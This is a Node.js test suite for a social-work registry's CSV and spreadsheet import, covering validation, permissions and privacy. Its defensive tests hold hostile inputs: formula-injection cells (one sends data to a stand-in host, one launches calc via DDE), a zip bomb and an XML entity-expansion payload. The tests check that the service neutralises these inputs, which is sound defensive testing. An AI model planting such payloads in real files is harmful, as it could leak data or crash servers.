// The registry's import as an office uses it: upload, columns, every error by
// row, all or nothing, twice the same; and as somebody would misuse it.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { constants, deflateRawSync } from 'node:zlib';
import test from 'node:test';
import { Client, hidden } from './client.mjs';
import { person, sql } from './people.mjs';
import { clinicHeader, clinics, csv, fields, header, nationalId, registry, workbook, zip } from './registry.mjs';

const admin = await person('admin');
const officer = await person('officer');
const auditor = await person('auditor');
const base = 1 + Date.now() % 60;
const short = (answer) => `${answer.status} ${answer.text.slice(0, 300)}`;

// Where groups may be: cities with a clinic of their own.
const places = sql(`select p.name, c.name, k.name from clinic k join city c on c.id = k.city_id
	join province p on p.id = c.province_id where k.name like 'کلینیک مددکاری اجتماعی %' and (select count(*) from clinic o
		where o.name = k.name) = 1 order by k.id limit 12`).split('\n').map((line) => {
	const [province, city, clinic] = line.split('|');
	return { province, city, clinic };
});

async function send(bytes, { who = admin, kind = 'groups', name = 'register.csv', title } = {}) {
	const form = new FormData();
	form.append('kind', kind);
	if (title) form.append('title', title);
	form.append('file', new Blob([bytes]), name);
	return who.client.ask('POST', '/api/v1/imports', { body: form });
}

// Waits until the runner has no more to do with it.
async function settled(id, who = admin) {
	for (let i = 0; i < 600; i++) {
		const answer = await who.client.get(`/api/v1/imports/${id}`);
		assert.equal(answer.status, 200, short(answer));
		if (!answer.json.busy) return answer.json;
		await new Promise((done) => setTimeout(done, 100));
	}
	throw new Error(`import ${id} does not end`);
}

async function sent(bytes, options) {
	const answer = await send(bytes, options);
	assert.equal(answer.status, 201, short(answer));
	return settled(answer.json.id, options?.who);
}

const columnsOf = (said) => said.fields.map((field) => field.column);

async function checked(bytes, options) {
	const said = await sent(bytes, options);
	assert.equal(said.state, 'matching', said.why);
	const answer = await admin.client.api('PUT', `/imports/${said.id}/columns`, { column: columnsOf(said) });
	assert.equal(answer.status, 200, short(answer));
	return settled(said.id);
}

async function written(bytes, options) {
	const said = await checked(bytes, options);
	assert.equal(said.errors, 0, JSON.stringify(said.errors ? (await errorsOf(said.id)).slice(0, 5) : ''));
	const answer = await admin.client.api('POST', `/imports/${said.id}/writing`, {});
	assert.equal(answer.status, 201, short(answer));
	return settled(said.id);
}

async function errorsOf(id) {
	const list = [];
	let after = '';
	do {
		const { json } = await admin.client.get(`/api/v1/imports/${id}/errors?most=7${after && `&after=${after}`}`);
		list.push(...json.errors);
		after = json.next;
	} while (after);
	return list;
}

// What must not change: every row of these, as it is.
const print = () => sql(`select md5(string_agg(t, '|' order by t)) from (
	select g::text as t from self_help_group g union all select m::text from group_member m
	union all select a::text from account a union all select r::text from role_grant r
	union all select h::text from group_history h union all select h::text from member_history h
	union all select k::text from clinic k union all select t::text from tally t) x`);

const kinds = (list) => list.map(({ row, field, column, code }) => `${row} ${field ?? fields[header.indexOf(column)]} ${code}`).sort();
let first;

test('a clean file becomes groups, members, accounts and roles, and no message', async () => {
	const file = registry({ rows: 130, base, places });
	const messages = sql('select count(*) from message');
	const said = await sent(csv(header, file.rows), { title: 'ثبت‌نام آزمون' });
	assert.deepEqual(columnsOf(said), fields.map((_, i) => i), 'every column is known by its name');
	assert.equal(said.rows_all, file.members);
	assert.equal(said.samples.length, 5);
	assert.equal(said.samples[0].cells[9], file.rows[0][9]);
	assert.match(said.samples[0].cells[10], /^\d{3}\*{5}\d{2}$/, 'a national id is masked');
	const done = await written(csv(header, file.rows));
	assert.equal(done.state, 'done', done.why);
	assert.deepEqual([done.result.groups_new, done.result.members_new, done.result.groups_changed, done.result.members_changed],
		[file.groups, file.members, 0, 0]);
	assert.equal(Number(sql(`select count(*) from self_help_group where registry_no like '${base}-%'`)), file.groups);
	const forming = sql(`select count(*) from self_help_group where registry_no like '${base}-%' and state = 'forming' and forming_since is not null`);
	assert.ok(Number(forming) > 0);
	assert.equal(sql(`select string_agg(distinct h.why || h.facts::text, '') from group_history h
		join self_help_group g on g.id = h.group_id where g.registry_no like '${base}-%'`), `از فایل وارد شد{"import": ${done.id}}`);
	assert.equal(Number(sql(`select count(*) from group_member m join self_help_group g on g.id = m.group_id
		join role_grant r on r.account_id = m.account_id and r.role = m.post and r.scope_id = g.id and r.ended_at is null
		where g.registry_no like '${base}-%' and m.in_force`)), file.members, 'each can log in, in her post');
	assert.equal(sql('select count(*) from message'), messages, 'nobody is written to');
	assert.equal(sql(`select count(*) from import_file where import_id = ${done.id}`), '0', 'the file is gone');
	assert.equal(sql(`select count(*) from import_row where import_id = ${done.id}`), '0', 'and its rows');
	first = { file, id: done.id, members: Array.from({ length: 40 }, (_, n) => ({
		id: nationalId(300000000 + base * 1000000 + 20 + n), mobile: `09${160000000 + base * 1000000 + 20 + n}` })) };
	const her = new Client();
	await her.login(`09${160000001 + base * 1000000}`);
	assert.equal((await her.get('/api/v1/group/members')).status, 200, 'a leader is at her desk');
});

test('the same file again changes nothing, whatever its format', async () => {
	const before = print();
	for (const bytes of [csv(header, first.file.rows), csv(header, first.file.rows, { apart: ';', mark: false, end: '\n' }),
		csv(header, first.file.rows, { apart: '\t' }), workbook(header, first.file.rows)]) {
		const done = await written(bytes);
		assert.equal(done.state, 'done', done.why);
		assert.equal(done.result.nothing, true, JSON.stringify(done.result));
		assert.equal(done.result.groups_new + done.result.members_new + done.result.changes, 0);
		assert.equal(print(), before);
		const page = (await admin.client.get(`/office/imports/${done.id}`)).text;
		assert.match(page, /۰ گروه تازه، ۰ تغییر/);
	}
});

test('mistakes of every kind are found, each at its row and column, and nothing is written', async () => {
	const file = registry({ rows: 900, base: base + 1, places, wrong: 4, members: first.members });
	const before = print();
	const said = await checked(csv(header, file.rows));
	assert.equal(said.state, 'checked', said.why);
	const found = await errorsOf(said.id);
	assert.deepEqual(kinds(found), kinds(file.planted));
	assert.ok(new Set(found.map((one) => one.code)).size > 25, 'of every kind');
	assert.equal(said.errors, file.planted.length);
	for (const one of found) assert.match(one.says, /[.!]$|: .+$/, JSON.stringify(one));
	const refused = await admin.client.api('POST', `/imports/${said.id}/writing`, {});
	assert.equal(refused.status, 409);
	assert.equal(refused.json.error.code, 'import_wrong');
	// Nor when the page, or whoever is in the service's place, says otherwise.
	sql(`update import set state = 'writing', errors = 0 where id = ${said.id}`);
	assert.equal(sql(`select runner_import_write(${said.id})`), 'checked');
	assert.equal(print(), before);
	const pages = [`/office/imports/${said.id}`, `/office/imports/${said.id}/errors`, `/office/imports/${said.id}/errors.csv?most=10000`];
	for (const path of pages) {
		const answer = await admin.client.get(path);
		assert.equal(answer.status, 200, short(answer));
		for (const row of file.rows) {
			const id = row[10].replace(/[۰-۹]/g, (digit) => '۰۱۲۳۴۵۶۷۸۹'.indexOf(digit)).trim();
			if (id) assert.ok(!answer.text.includes(id), `${path}: a national id`);
		}
	}
	const list = (await admin.client.get(pages[2]));
	assert.match(list.headers.get('content-type'), /^text\/csv/);
	assert.equal(list.text.trim().split('\n').length, file.planted.length + 1);
});

test('a workbook is read as a spreadsheet writes it', async () => {
	const file = registry({ rows: 60, base: base + 3, places, plain: true, wrong: 3 });
	const day = Math.round(Date.UTC(2020, 2, 20) / 86400000) + 25569;
	const rows = file.rows.map((row) => [...row]);
	rows[0][10] = Number(nationalId(1234567)); // its zeros are lost
	rows[0][11] = 9351234567;
	rows[0][13] = day;
	rows[1][13] = '14000516';
	const said = await checked(workbook(header, rows), { name: 'register.xlsx' });
	assert.deepEqual(kinds(await errorsOf(said.id)), kinds(file.planted));
	assert.deepEqual(sql(`select mobile, joined_on from import_row where import_id = ${said.id} and row_no in (2, 3) order by row_no`).split('\n'),
		['09351234567|2020-03-20', `${file.rows[1][11]}|2021-08-07`]);
});

test('names and numbers that changed are changes; two may exchange their numbers', async () => {
	const rows = first.file.rows.map((row) => [...row]);
	rows[1][9] = 'نام تازه او';
	[rows[3][11], rows[4][11]] = [rows[4][11], rows[3][11]];
	rows[5][11] = `0919${String(base).padStart(2, '0')}00005`;
	for (const row of rows) if (row[0] === rows[0][0]) row[1] = 'گروه همیار نام تازه';
	const ids = [1, 3, 4, 5].map((n) => nationalId(300000000 + base * 1000000 + n));
	const done = await written(csv(header, rows));
	assert.deepEqual([done.result.groups_new, done.result.members_new, done.result.groups_changed, done.result.members_changed], [0, 0, 1, 4]);
	const group = sql(`select id from self_help_group where registry_no = '${rows[0][0]}'`);
	assert.equal(sql(`select name from self_help_group where id = ${group}`), 'گروه همیار نام تازه');
	const plain = (text) => text.replace(/[۰-۹]/g, (digit) => '۰۱۲۳۴۵۶۷۸۹'.indexOf(digit)).replace(/\D/g, '').replace(/^(98|0)?/, '0');
	assert.deepEqual(sql(`select m.mobile || a.mobile || r.role from group_member m join account a on a.id = m.account_id
		join role_grant r on r.account_id = a.id and r.scope_id = m.group_id and r.ended_at is null and r.role = m.post
		where m.group_id = ${group} and m.post = 'member' order by m.id`).split('\n'),
	rows.filter((row) => row[0] === rows[0][0] && row[12] === 'عضو').map((row) => `${plain(row[11])}${plain(row[11])}member`));
	assert.equal(Number(sql(`select count(*) from role_grant where scope_id = ${group} and scope_kind = 'group' and ended_at is null`)),
		rows.filter((row) => row[0] === rows[0][0]).length, 'the old number has no more to do with the group');
	assert.equal(ids.length, 4);
	const again = await written(csv(header, rows));
	assert.equal(again.result.nothing, true);
	first.file.rows = rows;
});

test('who has left is not brought back, and a state is not a file\'s to change', async () => {
	const group = sql(`select id from self_help_group where registry_no = '${first.file.rows[8][0]}'`);
	sql(`update group_member set left_on = current_date, left_why = 'کوچ' where id = (select max(id) from group_member where group_id = ${group});
		update self_help_group set state = 'paused' where id = ${group}`);
	const done = await written(csv(header, first.file.rows));
	assert.equal(done.result.nothing, true, JSON.stringify(done.result));
	assert.equal(done.result.members_left, 1);
	assert.ok(done.result.groups_other_state >= 1);
	assert.equal(sql(`select state from self_help_group where id = ${group}`), 'paused');
	sql(`update group_member set left_on = null, left_why = null where group_id = ${group}; update self_help_group set state = 'active' where id = ${group}`);
});

test('what changes between the check and the writing is found once more', async () => {
	const file = registry({ rows: 7, base: base + 4, places, plain: true });
	const said = await checked(csv(header, file.rows));
	assert.equal(said.errors, 0);
	// Somebody of the file becomes a member elsewhere meanwhile.
	const other = sql("select min(id) from self_help_group where state = 'active' and kind = 'hamyar'");
	const member = sql(`update group_member set national_id_hash = (select national_id_hash from import_row where import_id = ${said.id} and row_no = 4)
		where id = (select min(id) from group_member where group_id = ${other} and in_force and post = 'member') returning id`);
	await admin.client.api('POST', `/imports/${said.id}/writing`, {});
	const back = await settled(said.id);
	assert.equal(back.state, 'checked');
	assert.match(back.why, /تغییر کرده/);
	assert.deepEqual((await errorsOf(said.id)).map(({ row, code }) => [row, code]), [[4, 'member_elsewhere']]);
	assert.equal(sql(`select count(*) from self_help_group where registry_no like '${base + 4}-%'`), '0');
	sql(`update group_member set national_id_hash = sha256(id::text::bytea) where id = ${member}`);
});

test('clinics come as a file of their own', async () => {
	const rows = clinics(places, base, 30);
	const done = await written(csv(clinicHeader, rows), { kind: 'clinics' });
	assert.equal(done.result.clinics_new, 30);
	rows[0][3] = '۰۲۱-۱۲۳۴۵۶۷';
	const again = await written(csv(clinicHeader, rows), { kind: 'clinics' });
	assert.deepEqual([again.result.clinics_new, again.result.clinics_changed], [0, 1]);
	assert.equal(sql(`select phone from clinic where name = '${rows[0][0]}'`), '021-1234567');
	const wrong = await checked(csv(clinicHeader, [...rows, rows[0], ['کلینیک نو', 'ناکجا', 'شهری', '']]), { kind: 'clinics' });
	assert.deepEqual((await errorsOf(wrong.id)).map(({ row, code }) => [row, code]), [[32, 'clinic_twice'], [33, 'unknown_province']]);
});

test('the pages do it all without a script', async () => {
	const file = registry({ rows: 14, base: base + 5, places, plain: true });
	const html = (await officer.client.get('/office/imports')).text;
	const form = new FormData();
	for (const [name, value] of Object.entries(hidden(html, '/office/imports'))) form.append(name, value);
	form.append('kind', 'groups');
	form.append('file', new Blob([csv(header.with?.(0, 'ناشناس') ?? ['ناشناس', ...header.slice(1)], file.rows)]), 'x.csv');
	const came = await officer.client.ask('POST', '/office/imports', { body: form });
	assert.equal(came.status, 303, short(came));
	const id = Number(came.location.split('/').pop());
	const said = await settled(id, officer);
	assert.equal(said.fields[0].column, null, 'a name nobody knows');
	const page = `/office/imports/${id}`;
	const blank = await officer.client.submit(page, `${page}/columns`, { column: said.fields.map((one) => one.column ?? '') });
	assert.equal(blank.status, 422, short(blank));
	assert.match(blank.text, /شماره ثبت گروه/);
	assert.match(blank.text, /aria-invalid="true"/);
	assert.match(blank.text, /<option value="9" selected>/, 'what was chosen stays');
	const twice = await officer.client.submit(page, `${page}/columns`, { column: said.fields.map((one, i) => (i ? one.column : 5)) });
	assert.equal(twice.status, 422);
	assert.match(twice.text, /شهرستان/);
	const matched = await officer.client.submit(page, `${page}/columns`, { column: said.fields.map((one, i) => (i ? one.column : 0)) });
	assert.equal(matched.status, 303, short(matched));
	assert.equal((await settled(id, officer)).errors, 0);
	const done = await officer.client.submit(page, `${page}/write`, {});
	assert.equal(done.status, 303);
	assert.equal((await settled(id, officer)).state, 'done');
	assert.match((await officer.client.get(page)).text, /همه ردیف‌ها ثبت شد/);
});

test('progress is told while it goes on', async () => {
	const file = registry({ rows: 3000, base: base + 6, places, plain: true });
	const said = await sent(csv(header, file.rows));
	await admin.client.api('PUT', `/imports/${said.id}/columns`, { column: columnsOf(said) });
	const seen = [];
	for (let i = 0; i < 600; i++) {
		const { json } = await admin.client.get(`/api/v1/imports/${said.id}`);
		if (json.checking) seen.push(json.rows_done);
		if (json.checking && i === 0) assert.match((await admin.client.get(`/office/imports/${said.id}`)).text, /<progress/);
		if (!json.busy) break;
	}
	assert.ok(seen.length > 0 && seen.every((n, i) => i === 0 || n >= seen[i - 1]), seen.join(' '));
	await admin.client.ask('DELETE', `/api/v1/imports/${said.id}`);
});

// ---- what somebody might try -----------------------------------------------

test('an import is for those who may, and each officer has her own', async () => {
	const mine = await sent(csv(header, first.file.rows), { who: officer });
	assert.equal((await admin.client.get(`/api/v1/imports/${mine.id}`)).status, 200, 'an admin sees all');
	assert.equal((await auditor.client.get(`/api/v1/imports/${mine.id}`)).json.can_change, false, 'an auditor looks');
	assert.equal((await auditor.client.api('POST', `/imports/${mine.id}/writing`, {})).status, 403);
	assert.equal((await officer.client.get(`/api/v1/imports/${first.id}`)).status, 404, "another's is not there");
	for (const [method, path, body] of [['PUT', 'columns', { column: [0] }], ['POST', 'writing', {}]])
		assert.equal((await officer.client.api(method, `/imports/${first.id}/${path}`, body)).status, 404);
	assert.equal((await officer.client.get(`/api/v1/imports/${first.id}/errors`)).status, 404);
	assert.equal((await officer.client.get(`/office/imports/${first.id}/errors.csv`)).status, 404);
	assert.equal((await officer.client.ask('DELETE', `/api/v1/imports/${first.id}`)).status, 404);
	// An officer of one province would write beyond it.
	sql(`update role_grant set scope_kind = 'province', scope_id = 4 where id = ${officer.grant}`);
	try {
		assert.equal((await send('a,b\n1,2\n', { who: officer })).status, 403);
		assert.equal((await officer.client.get('/api/v1/imports')).status, 404);
		assert.equal((await officer.client.get(`/api/v1/imports/${mine.id}`)).status, 404);
	} finally {
		sql(`update role_grant set scope_kind = 'nation', scope_id = null where id = ${officer.grant}`);
	}
	assert.equal((await officer.client.ask('DELETE', `/api/v1/imports/${mine.id}`)).status, 200);
	assert.equal((await officer.client.get(`/api/v1/imports/${mine.id}`)).json.state, 'dropped');
	assert.equal(sql(`select count(*) from import_file where import_id = ${mine.id}`), '0');
});

test('the bytes in the database are sealed', async () => {
	const said = await sent(csv(header, first.file.rows));
	assert.equal(sql(`select position(convert_to('${header[0]}', 'UTF8') in body) + position(convert_to('${first.file.rows[0][6]}', 'UTF8') in body) from import_file where import_id = ${said.id}`), '0');
	await admin.client.ask('DELETE', `/api/v1/imports/${said.id}`);
});

test('formulas in cells are text in the list of errors', async () => {
	const rows = registry({ rows: 6, base: base + 7, places, plain: true }).rows;
	['=HYPERLINK("http://evil.example?"&A1)', '+cmd|calc', '-2+3', '@SUM(A1)', '"=1"', '\t=1'].forEach((text, i) => { rows[i][13] = text; });
	const head = ['=1+1', ...header.slice(1, 13), '@تاریخ عضویت'];
	const said = await sent(csv(head, rows));
	const column = said.fields.map((one, i) => one.column ?? i);
	await admin.client.api('PUT', `/imports/${said.id}/columns`, { column });
	assert.equal((await settled(said.id)).errors, 6);
	const text = (await admin.client.get(`/office/imports/${said.id}/errors.csv`)).text;
	for (const line of text.trim().split('\n').slice(1))
		for (const [, cell] of line.matchAll(/"((?:[^"]|"")*)"/g)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, line);
	const page = (await admin.client.get(`/office/imports/${said.id}/errors`)).text;
	assert.match(page, /=HYPERLINK\(&quot;/);
});

test('what is no table says what to do instead', async () => {
	const bomb = 'A'.repeat(30e6);
	const sheet = (body) => workbook(['a', 'b'], []).length && zip([
		['xl/workbook.xml', '<workbook xmlns:r="r"><sheets><sheet r:id="i"/></sheets></workbook>'],
		['xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="i" Target="worksheets/sheet1.xml"/></Relationships>'],
		['xl/worksheets/sheet1.xml', body]]);
	const tries = [
		['%PDF-1.7 ...', /جدول نیست/], [Buffer.from('\u0000\u0001\u0002'), /جدول نیست/],
		[zip([['word/document.xml', '<x/>']]), /جدول نیست/],
		[Buffer.from('d0cf11e0a1b11ae1', 'hex'), /قالب قدیمی/],
		[Buffer.from('\ufeffنام,نام\n۱,۲\n', 'utf16le'), /UTF-8/],
		[Buffer.from('\xe4\xc7\xe3,\xe4\xc7\xe3\n1,2\n', 'latin1'), /UTF-8/],
		['نام,شماره\n', /ردیفی نیست/], ['\n\n', /خالی/],
		[`a,b\n1,"${'x'.repeat(70000)}\n`, /بسته نشده/],
		[`${'a,'.repeat(70)}\n${'1,'.repeat(70)}1\n`, /ستون/],
		[sheet(`<worksheet>${bomb.replaceAll('A'.repeat(100), `<c>${'A'.repeat(93)}</c>`)}`.repeat(9)), /خراب|سنگین/],
		[sheet(`<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet><row><c t="str"><v>&b;</v></c></row></worksheet>`), /خراب/],
		[sheet('<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>99999</v></c></row></sheetData></worksheet>'), /خراب/],
		[sheet('<worksheet><sheetData><row r="5"/><row r="2"/></sheetData></worksheet>'), /خراب/],
		[workbook(header, first.file.rows).subarray(0, 5000), /خراب/],
		[zip([['xl/workbook.xml', '<workbook><workbookPr date1904="1"/></workbook>']]), /۱۹۰۴|1904/],
	];
	// Making them takes seconds, in which the kept line is closed: a read asks again.
	await admin.client.get('/healthz');
	for (const [bytes, words] of tries) {
		const said = await sent(bytes, { name: 'wrong.xlsx' });
		assert.equal(said.state, 'failed', `${String(bytes).slice(0, 20)}: ${said.state}`);
		assert.match(said.why, words);
		assert.equal(sql(`select count(*) from import_file where import_id = ${said.id}`), '0');
	}
	// A name that lies is not asked: the content says what it is.
	const said = await sent(workbook(header, first.file.rows), { name: 'photo.jpg' });
	assert.equal(said.state, 'matching');
	await admin.client.ask('DELETE', `/api/v1/imports/${said.id}`);
});

test('a zip that unpacks to gigabytes is stopped, and the next one is read', async () => {
	// One MiB of blanks a time, three gigabytes of them.
	const block = deflateRawSync(Buffer.alloc(1 << 20, ' '), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
	const packed = Buffer.concat([deflateRawSync('<worksheet>', { finishFlush: constants.Z_SYNC_FLUSH }), ...Array(3000).fill(block)]);
	assert.ok(packed.length < 8e6, 'it is small as it comes');
	const member = zip([['xl/workbook.xml', '<workbook xmlns:r="r"><sheets><sheet r:id="i"/></sheets></workbook>'],
		['xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="i" Target="s.xml"/></Relationships>'],
		['xl/s.xml', { packed, size: 1000 }]]);
	const said = await sent(member);
	assert.equal(said.state, 'failed');
	assert.match(said.why, /سنگین/);
	assert.equal((await sent(csv(header, first.file.rows))).state, 'matching');
});

test('the sample of each kind is a file whose columns are known', async () => {
	for (const [kind, least] of [['groups', 'شماره ثبت گروه'], ['clinics', 'نام کلینیک']]) {
		assert.match((await officer.client.get('/office/imports')).text, new RegExp(`class="needed">${least}<`));
		const sample = await officer.client.get(`/office/imports/${kind}/sample.csv`);
		assert.match(sample.headers.get('content-type'), /^text\/csv/);
		const said = await sent(sample.text, { kind });
		assert.equal(said.rows_all, 2);
		assert.deepEqual(columnsOf(said), said.fields.map((field, n) => n));
		await admin.client.ask('DELETE', `/api/v1/imports/${said.id}`);
	}
});

test('a file without an end, or of nothing, is refused at the door', async () => {
	assert.equal((await send('')).status, 422);
	assert.equal((await send(Buffer.alloc(41 * 1024 * 1024, 'a,b\n'))).status, 422);
	const huge = await send(Buffer.alloc(44 * 1024 * 1024)).catch(() => ({ status: 413 }));
	assert.equal(huge.status, 413);
	assert.equal((await send('a,b\n1,2\n', { kind: 'orders' })).status, 422);
});

test('nothing of it is in a log', () => {
	for (const name of ['hamyar.log', 'jobs.log', 'postgresql.log']) {
		const text = readFileSync(`${process.env.HAMYAR_VAR}/log/${name}`, 'utf8');
		for (let n = 1; n < 200; n++) {
			assert.ok(!text.includes(nationalId(300000000 + base * 1000000 + n)), `${name}: a national id`);
			assert.ok(!text.includes(`09${160000000 + base * 1000000 + n}`), `${name}: a mobile`);
		}
	}
});
